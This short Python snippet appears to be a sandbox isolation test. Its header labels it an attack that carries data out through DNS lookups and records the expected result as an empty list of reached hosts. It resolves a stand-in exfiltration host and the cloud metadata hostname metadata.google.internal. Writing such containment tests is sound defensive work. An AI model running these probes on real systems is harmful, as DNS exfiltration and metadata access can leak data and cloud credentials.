# attack: carry data out in the names that are looked up
# told: RuntimeError: reached: \[\]
# %%
import socket

reached = []
for name in ("stolen.example.org", "localhost.example.com", "metadata.google.internal"):
    try:
        reached.append(socket.gethostbyname(name))
    except OSError:
        pass
raise RuntimeError(f"reached: {reached}")
